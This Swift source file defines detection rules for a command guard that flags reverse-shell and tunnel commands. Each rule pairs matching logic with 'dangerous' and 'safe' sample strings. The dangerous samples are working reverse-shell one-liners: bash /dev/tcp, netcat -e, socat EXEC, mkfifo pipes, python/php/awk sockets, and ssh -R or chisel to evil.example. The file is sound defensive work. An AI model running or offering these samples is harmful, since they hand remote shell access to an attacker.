extension GuardRule {
  /// Shells for somebody else.
  static let reverseShell: [GuardRule] = [
    GuardRule(
      "socket-device", .reverseShell, .critical, "Connects a shell to the network.",
      dangerous: [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/h/80",
        "sh -i 2>&1 <> /dev/udp/1.2.3.4/53", "cat < /dev/tcp/h/1 | sh",
      ],
      safe: ["echo /dev/tcp/x", "ls /dev", "grep -rn /dev/tcp/ scripts/"]
    ) { command in
      let isText = command.runs("cat", "echo", "printf", "grep", "egrep", "fgrep", "rg", "ag")
      return (command.redirections.map(\.target) + (isText ? [] : command.arguments))
        .contains { $0.text.hasPrefix("/dev/tcp/") || $0.text.hasPrefix("/dev/udp/") }
    },
    GuardRule(
      "netcat-shell", .reverseShell, .critical, "Hands a shell to whoever is at the other end.",
      dangerous: [
        "nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash h 1", "nc -l -p 1 -e /bin/sh",
        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "nc -lvp 9 -c bash", "socket -svp '/bin/sh -i' 1",
      ],
      safe: ["nc -zv host 22", "nc -l 8080", "socat TCP-LISTEN:80,fork TCP:h:80"]
    ) { command in
      if command.runs("nc", "ncat", "netcat", "nc.traditional", "busybox") {
        guard let started = command.value(of: "-e", "-c", "--exec", "--sh-exec", "--lua-exec")
        else {
          return command.has("-e") && command.runs("nc", "ncat", "netcat", "nc.traditional")
        }
        return !command.runs("busybox") && !started.text.isEmpty
      }
      if command.runs("socket") {
        return command.arguments.contains { $0.text.hasPrefix("-") && $0.text.contains("p") }
      }
      guard command.runs("socat") else { return false }
      let line = command.line.lowercased()
      return (line.contains("exec:") || line.contains("system:"))
        && (line.contains("tcp") || line.contains("udp") || line.contains("openssl")
          || line.contains("listen"))
    },
    GuardRule(
      "pipe-shell", .reverseShell, .critical,
      "Feeds a shell from the network and sends back its output.",
      dangerous: [
        "mkfifo /tmp/f; nc h 1 < /tmp/f | /bin/sh > /tmp/f", "nc h 1 | bash | nc h 2",
        "openssl s_client -connect h:1 | sh", "telnet h 1 | /bin/bash | telnet h 2",
        "rm -f /tmp/p; mknod /tmp/p p && telnet h 1 0</tmp/p | /bin/bash 1>/tmp/p",
        "sh -i < /tmp/f | nc h 1 > /tmp/f",
      ],
      safe: ["echo x | nc h 1", "openssl s_client -connect h:443"]
    ) { command in
      let network = ["nc", "ncat", "netcat", "telnet", "openssl", "socat", "nc.traditional"]
      if command.runs(Shells.names) { return command.upstream.contains(where: network.contains) }
      return network.contains(command.program)
        && command.upstream.contains(where: Shells.names.contains)
        && !command.upstream.contains("echo")
    },
    GuardRule(
      "inline-socket", .reverseShell, .critical,
      "Code on the command line connects a shell to the network.",
      dangerous: [
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
        "php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3\");'",
        "awk 'BEGIN{s=\"/inet/tcp/0/h/1\";while(1){s|&getline c;c|getline}}'",
      ],
      safe: ["python3 -c 'import socket; print(socket.gethostname())'"]
    ) { command in
      if command.runs("echo", "printf"), !command.writtenTargets.isEmpty,
        InlineCode(written: command.line).joinsSocketToShell
      {
        return true
      }
      guard let code = command.code else { return false }
      if code.text.contains("/inet/tcp/") || code.text.contains("/inet/udp/") { return true }
      return code.joinsSocketToShell
    },
    GuardRule(
      "tunnel-shell", .reverseShell, .high,
      "Opens a way into this machine from outside.",
      dangerous: [
        "ssh -R 2222:localhost:22 user@evil.example", "ngrok tcp 22", "xterm -display 10.0.0.1:1",
        "ssh -o ProxyCommand='sh -c id' host", "gsocket /bin/sh",
        "chisel client evil.example R:socks",
      ],
      safe: ["ssh user@host", "ssh -L 8080:localhost:80 host", "ngrok http 8080"]
    ) { command in
      switch command.program {
      case "ssh", "autossh":
        return command.has("-R") && command.value(of: "-R") != nil
          || command.arguments.contains {
            $0.text.lowercased().contains("proxycommand=;")
              || $0.text.lowercased().contains("localcommand=")
              || $0.text.lowercased().contains("proxycommand=sh")
          }
      case "ngrok": return command.mentions("tcp")
      case "xterm": return command.has("-display")
      case "gsocket", "gs-netcat", "pwncat", "tmate", "sshuttle":
        return command.runs("gsocket", "gs-netcat", "pwncat")
      case "chisel": return command.line.contains("R:")
      default: return false
      }
    },
  ]
}
